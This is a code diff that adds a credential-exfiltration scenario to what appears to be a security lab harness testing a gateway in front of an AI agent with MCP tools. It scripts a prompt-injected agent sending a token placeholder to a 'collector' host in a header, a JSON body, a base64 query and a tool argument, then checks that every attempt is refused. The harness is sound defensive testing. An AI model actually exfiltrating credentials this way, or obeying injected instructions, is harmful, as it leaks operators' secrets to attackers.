@@ -31,6 +31,7 @@ internal static class ScenarioPlays
         "dns-exfiltration" => DnsExfiltrationAsync(s, c, ct),
         "unapproved-mcp-tool" => UnapprovedToolAsync(s, c, ct),
         "mcp-tool-rug-pull" => RugPullAsync(s, c, ct),
+        "credential-exfiltration" => CredentialExfiltrationAsync(s, c, ct),
         _ => throw new InvalidOperationException($"no play for {s.Id}"),
     };
 
@@ -107,10 +108,47 @@ internal static class ScenarioPlays
         }
         finally
         {
-            // The server reverts: listing again matches the pins, so the hold lifts for whatever runs next.
+            // The server reverts. The hold stays until an operator accepts (a client that read the change may still act
+            // on it), so this is the last scenario that calls search_docs.
             c.McpTools.SearchDocsDescription = McpStandIn.ReviewedDescription;
             await c.Agent.SendAsync(HttpMethod.Post, url, ToolsList, Json, ct);
         }
+    }
+
+    /// <summary>
+    /// The agent holds only the placeholder of the MCP server's token (credentials in the policy): the approved call
+    /// reaches the server with the real token; a prompt-injected agent then sends the placeholder to the collector in a
+    /// header, in a JSON body and base64-encoded in a query, and into a tool argument of the approved server itself
+    /// (where the server would log it). The collector gets nothing, the server nothing more.
+    /// </summary>
+    private static async Task<ScenarioResult> CredentialExfiltrationAsync(Scenario s, ScenarioContext c, CancellationToken ct)
+    {
+        const string placeholder = "corral-cred-" + LabRunner.McpCredential;
+        var mcp = c.Server(LabHosts.Mcp);
+        var collector = c.Server(LabHosts.Collector);
+        var bearer = ("Authorization", "Bearer " + placeholder);
+        var approved = await c.Agent.SendAsync(HttpMethod.Post, $"https://{LabHosts.Mcp.Name}/mcp", ToolCall, Json, ct, bearer);
+        var received = mcp.Requests.LastOrDefault(r => r.Path == "/mcp")?.Authorization;
+        var gotRealToken = received == "Bearer " + c.McpToken;
+
+        var collectorBefore = collector.BytesReceived;
+        var header = await c.Agent.SendAsync(HttpMethod.Get, $"https://{LabHosts.Collector.Name}/k", null, Json, ct, bearer);
+        var body = await c.Agent.SendAsync(HttpMethod.Post, $"https://{LabHosts.Collector.Name}/k", $"{{\"key\":\"{placeholder}\"}}", Json, ct);
+        var query = await c.Agent.SendAsync(HttpMethod.Get, $"https://{LabHosts.Collector.Name}/k?d={Convert.ToBase64String(Encoding.ASCII.GetBytes(placeholder))}", null, Json, ct);
+        var toCollector = collector.BytesReceived - collectorBefore;
+
+        var mcpBefore = mcp.BytesReceived;
+        var argument = await c.Agent.SendAsync(HttpMethod.Post, $"https://{LabHosts.Mcp.Name}/mcp", ToolCall.Replace("Q3 revenue", placeholder), Json, ct);
+        var toServer = mcp.BytesReceived - mcpBefore;
+        var refusal = await WaitForRecord(c, LabHosts.Mcp.Name, FlowEvent.Request, r => r.Check == Interception.Http.GatewayCheck.CredentialExfiltration);
+        var placed = await WaitForRecord(c, LabHosts.Mcp.Name, FlowEvent.Request, r => r.Credential == LabRunner.McpCredential && r.Check is null);
+
+        var passed = approved.Ok && gotRealToken && header.Refused && body.Refused && query.Refused && toCollector == 0 &&
+                     argument is { Kind: AttemptKind.Response, Status: 403 } && refusal is not null && toServer == 0 && Rule(placed) == s.ExpectedRule;
+        return Result(s, c, $"approved call {approved.Describe()}, server received {(gotRealToken ? "the real token" : received is null ? "no token" : StandInSite.Masked(received))}; " +
+                            $"to the collector: header {header.Describe()}, body {body.Describe()}, base64 query {query.Describe()}; in a tool argument: {argument.Describe()}",
+            Rule(placed), true, toCollector + toServer, passed,
+            $"the agent held only '{placeholder}'; {(refusal is null ? "no credential-exfiltration record" : $"{refusal.Check}: {refusal.Refusal}")}");
     }
 
     private static async Task<ScenarioResult> SecretAsync(Scenario s, ScenarioContext c, CancellationToken ct)
